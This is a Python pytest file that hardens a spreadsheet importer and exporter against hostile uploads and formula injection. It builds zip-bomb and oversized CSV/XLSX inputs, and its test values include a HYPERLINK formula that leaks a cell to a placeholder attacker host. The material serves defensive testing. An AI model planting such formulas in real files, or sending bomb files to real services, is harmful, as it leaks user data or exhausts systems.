"""Reading hostile uploads and writing formula-safe files: missionplanner/spreadsheets.py.

Each hostile file is built small, but so that reading it whole would end differently (an error
further on, garbage after the limit): the reader is shown to stop at the limit, not to count after.
"""

import io
import zipfile

import openpyxl
import pytest

from missionplanner import spreadsheets
from missionplanner.spreadsheets import (
    MAX_COLUMNS,
    MAX_LINES,
    MAX_ROWS,
    UnreadableFile,
    csv_file,
    csv_safe,
    read_sheets,
    unescape,
    xlsx_file,
)

HEADER = ["uid", "type", "title"]
SHEET = "xl/worksheets/sheet1.xml"


def _refusal(content: bytes, filename: str = "p.csv", **kwargs) -> str:
    with pytest.raises(UnreadableFile) as refused:
        read_sheets(content=content, filename=filename, **kwargs)
    return str(refused.value)


def _workbook_with_sheet_xml(
    rows_xml: bytes, *, more: dict[str, bytes] | None = None, before: bytes = b""
) -> bytes:
    """A real workbook whose first sheet's XML is replaced: rows_xml inside <sheetData>, which is
    left unclosed when rows_xml ends in garbage."""
    book = openpyxl.Workbook()
    book.active.title = "Programme"
    out = io.BytesIO()
    book.save(out)
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == SHEET:
                data = (
                    b'<?xml version="1.0" encoding="UTF-8"?>'
                    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                    + before
                    + b"<sheetData>"
                    + rows_xml
                )
                if not rows_xml.endswith(b"garbage"):
                    data += b"</sheetData></worksheet>"
            target.writestr(info.filename, data)
        for name, data in (more or {}).items():
            target.writestr(name, data)
    return result.getvalue()


def _row_xml(number: int, *values: str) -> bytes:
    cells = "".join(
        f'<c r="{chr(65 + i)}{number}" t="inlineStr"><is><t>{value}</t></is></c>'
        for i, value in enumerate(values)
    )
    return f'<row r="{number}">{cells}</row>'.encode()


# Limits -------------------------------------------------------------------------------------------


def test_a_csv_of_one_character_rows_is_refused_at_the_row_limit_without_reading_the_rest():
    # The probe's 4.8 MB of 2.4 million rows took 54 s and 740 MB before this message. Here the
    # rows past the limit go on for 200 KB and then hold a byte that is text in no encoding we
    # read: reading the file whole would end in "neither UTF-8 nor Windows-1252" instead.
    content = b"title\n" + b"a\n" * (MAX_ROWS + 100_000) + b"\x81\n"
    assert "more than 5,000 rows; import at most 5,000 at a time" in _refusal(content)


def test_a_csv_of_blank_lines_is_refused_at_the_line_limit():
    content = b"title\nfirst\n" + b",\n" * (MAX_LINES + 100_000) + b"\x81\n"
    assert "goes on past line 10,001 (blank lines included)" in _refusal(content)


def test_a_csv_line_of_too_many_cells_says_which_limit():
    content = ",".join(f"c{n}" for n in range(MAX_COLUMNS + 1)).encode()
    assert (
        _refusal(content) == "The first line names more than 50 columns; a file may have at most that many."
    )
    # A million commas, then a name: the cells past the limit are never read one by one.
    assert "more than 50 columns" in _refusal(b"title" + b"," * 1_000_000 + b"x\n")


def test_a_cell_far_past_the_header_is_found_without_reading_every_cell_before_it():
    content = b"uid,type,title\n,meeting,Breakfast" + b"," * 1_000_000 + b"x\n"
    assert _refusal(content).startswith("Line 2 has a cell in column ")


def test_a_zip_bomb_is_refused_by_its_unpacked_size_before_openpyxl_opens_it(monkeypatch):
    # 41 MB of spaces pack into about 40 KB. The workbook is never opened: openpyxl is not called.
    bomb = _workbook_with_sheet_xml(_row_xml(1, *HEADER), more={"xl/media/padding.bin": b" " * (41 << 20)})
    assert len(bomb) < 200_000

    def never(*args, **kwargs):
        raise AssertionError("the workbook was opened")

    monkeypatch.setattr(spreadsheets.openpyxl, "load_workbook", never)
    message = _refusal(bomb, "p.xlsx")
    assert (
        message
        == "This workbook unpacks to 41 MB; at most 40 MB are read (a sheet of 5,000 rows takes far less)."
    )


def test_an_xlsx_is_read_as_a_stream_that_stops_at_the_row_limit():
    # 990,000 rows packed into 120 KB took the probe 85 to 100 s. Here the rows past the limit run
    # into broken XML: a reader that parsed the whole sheet first would call the file damaged.
    rows = b"".join(_row_xml(n, "x") for n in range(1, MAX_ROWS + 5_000))
    content = _workbook_with_sheet_xml(
        _row_xml(0, "title").replace(b'r="0"', b"") + rows + b"<row><c>garbage"
    )
    assert "more than 5,000 rows" in _refusal(content, "p.xlsx")


def test_an_xlsx_row_far_down_the_sheet_is_not_reached_by_padding_a_million_empty_rows():
    content = _workbook_with_sheet_xml(_row_xml(1, *HEADER) + _row_xml(1_048_576, "x", "y", "z"))
    assert "goes on past line 10,001" in _refusal(content, "p.xlsx")


def test_a_workbook_dimension_that_lies_does_not_hide_rows():
    # The sheet says it holds A1:C1 only; openpyxl's read-only sheets stop where it says.
    sheet = _row_xml(1, *HEADER) + _row_xml(2, "", "meeting", "Breakfast")
    content = _workbook_with_sheet_xml(sheet, before=b'<dimension ref="A1:C1"/>')
    [table] = read_sheets(content=content, filename="p.xlsx")
    assert table.rows == [["", "meeting", "Breakfast"]]


def test_only_the_named_sheets_of_a_workbook_are_read():
    book = openpyxl.Workbook()
    book.active.title = "Notes"  # first: read when no sheet is named, never otherwise
    book.active.append(["anything"])
    book.create_sheet("Participants").append(["side", "organisation"])
    book.create_sheet("requests").append(["requester", "target"])
    out = io.BytesIO()
    book.save(out)
    # The notes sheet is replaced by broken XML: reading it would fail.
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            target.writestr(
                info.filename, b"<worksheet><sheetData><row>garbage" if info.filename == SHEET else data
            )
    tables = read_sheets(content=result.getvalue(), filename="b2b.xlsx", names=("participants", "requests"))
    assert [(t.name, t.headers) for t in tables] == [
        ("participants", ["side", "organisation"]),
        ("requests", ["requester", "target"]),
    ]


# What a file says, in words -------------------------------------------------------------------------


def test_a_windows_1252_csv_as_excel_on_windows_saves_it_is_read():
    content = "title,venue\nCafé Zürich – €5 lunch,Hôtel de Ville\n".encode("cp1252")
    [table] = read_sheets(content=content, filename="p.csv")
    assert table.rows == [["Café Zürich – €5 lunch", "Hôtel de Ville"]]


def test_a_latin_1_csv_is_read():
    content = "title\nSão Paulo açaí\n".encode("latin-1")
    assert read_sheets(content=content, filename="p.csv")[0].rows == [["São Paulo açaí"]]


def test_a_csv_in_no_encoding_we_read_is_refused_in_words():
    message = _refusal(b"title\n\x81\x8d\n")
    assert message == (
        "This CSV file is neither UTF-8 nor Windows-1252 (Western European) text: "
        "save it from Excel as 'CSV UTF-8'."
    )
    assert "codec" not in message


def test_a_utf_16_csv_is_refused_in_words():
    assert "saved as UTF-16" in _refusal("title\nx\n".encode("utf-16"))


def test_a_ragged_row_says_which_line():
    content = b"uid,type,title\n,meeting,Breakfast\n,meeting,Lunch,Diaoyutai\n"
    assert _refusal(content) == (
        "Line 3 has a cell in column D, but the first line names 3 columns: that cell has no column name."
    )


def test_trailing_empty_cells_are_not_a_ragged_row_and_short_rows_are_filled():
    [table] = read_sheets(content=b"uid,type,title\n,meeting,Breakfast,,\n,leg\n", filename="p.csv")
    assert table.rows == [["", "meeting", "Breakfast"], ["", "leg", ""]]


def test_a_duplicated_header_is_refused():
    message = _refusal(b"uid,title,Title\n,a,b\n")
    assert (
        message == "Line 1: the column 'title' appears twice (columns B and C); each column may appear once."
    )


def test_a_nul_byte_is_refused_with_its_line_and_column():
    message = _refusal(b"uid,title\n,ok\n,NUL\x00title\n")
    assert message.startswith("Line 3, column B: the cell holds a NUL character (byte 0)")


def test_a_cell_longer_than_excel_allows_is_refused():
    content = b"title\n" + b"x" * 40_000 + b"\n"
    assert _refusal(content) == "Line 2, column A: the cell is longer than 32,767 characters."


def test_a_sheet_names_itself_in_its_messages():
    book = openpyxl.Workbook()
    book.active.title = "requests"
    book.active.append(["requester", "target", "target"])
    out = io.BytesIO()
    book.save(out)
    message = _refusal(out.getvalue(), "b2b.xlsx", names=("participants", "requests"))
    assert message.startswith("Sheet 'requests', line 1: the column 'target' appears twice")


# Writing ----------------------------------------------------------------------------------------

TRICKY = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
    "=Main hall (level 2)",
    "=TBC by Friday",
    "+86 21 5555 0100",
    "-",
    "-5",
    "@SUM(A1)",
    "\t=1+2",
    "\r=1+2",
    "'=already quoted",
    "''=twice",
    "'plain quote",
    "plain",
    "",
    "#N/A",
    "1e5",
]


def test_csv_cells_that_would_be_formulas_get_owasps_apostrophe():
    assert csv_safe('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
    assert csv_safe("+86 21") == "'+86 21"
    assert csv_safe("\t=1") == "'\t=1"
    assert csv_safe("plain") == "plain"
    assert csv_safe("'plain") == "'plain"


@pytest.mark.parametrize("value", TRICKY)
def test_unescape_gives_back_exactly_what_csv_safe_was_given(value):
    assert unescape(csv_safe(value)) == value
    assert not csv_safe(value).startswith(spreadsheets.FORMULA_START)


def test_our_csv_reads_back_as_the_values_it_was_made_from():
    # Leading tabs and returns are whitespace a reader strips: the round trip keeps the rest.
    values = [value for value in TRICKY if not value.startswith(("\t", "\r"))]
    content = csv_file(["title"], [[value] for value in values])
    assert content.startswith(b"\xef\xbb\xbf")
    assert read_sheets(content=content, filename="p.csv")[0].rows == [[value] for value in values]


def test_our_xlsx_writes_every_cell_as_a_string_and_reads_back_the_same():
    values = [value for value in TRICKY if not value.startswith(("\t", "\r"))]
    content = xlsx_file([("Programme", ["title"], [[value] for value in values])])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read(SHEET)
    assert b"<f>" not in xml and b"<f " not in xml
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "inlineStr"}
    assert sheet["A2"].value == values[0]
    assert read_sheets(content=content, filename="p.xlsx")[0].rows == [[value] for value in values]


def test_characters_xml_cannot_carry_do_not_stop_an_xlsx_export():
    content = xlsx_file([("Programme", ["title"], [["bell\x07here"]])])
    assert (
        openpyxl.load_workbook(io.BytesIO(content)).active["A2"].value == "bell\N{REPLACEMENT CHARACTER}here"
    )


def _workbook_with_shared_strings(strings_xml: bytes) -> bytes:
    """A workbook whose sheet's two cells are shared strings 0 and 1 of `strings_xml`."""
    rows = b'<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2" t="s"><v>1</v></c></row>'
    content = _workbook_with_sheet_xml(rows)
    source = zipfile.ZipFile(io.BytesIO(content))
    result = io.BytesIO()
    override = (
        b'<Override PartName="/xl/sharedStrings.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    )
    with zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", override + b"</Types>")
            target.writestr(info.filename, data)
        target.writestr(
            "xl/sharedStrings.xml",
            b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + strings_xml,
        )
    return result.getvalue()


def test_a_workbook_of_millions_of_tiny_shared_strings_is_refused_at_the_limit():
    # The shared strings are the one part openpyxl reads whole at opening. Past the limit they
    # turn into broken XML: parsing them all first would call the file damaged instead.
    strings = b"<si><t>a</t></si>" * (spreadsheets.MAX_SHARED_STRINGS + 50_000) + b"<si><t>garbage"
    assert _refusal(_workbook_with_shared_strings(strings), "p.xlsx") == (
        "This workbook holds more than 200,000 different texts; a sheet of 5,000 rows needs fewer."
    )


def test_shared_strings_are_read_as_openpyxl_reads_them():
    strings = (
        b"<si><t>title</t></si><si><r><t>\xe5\x8c\x97\xe4\xba\xac </t></r><r><t>Forum</t></r></si></sst>"
    )
    [table] = read_sheets(content=_workbook_with_shared_strings(strings), filename="p.xlsx")
    assert (table.headers, table.rows) == (["title"], [["北京 Forum"]])
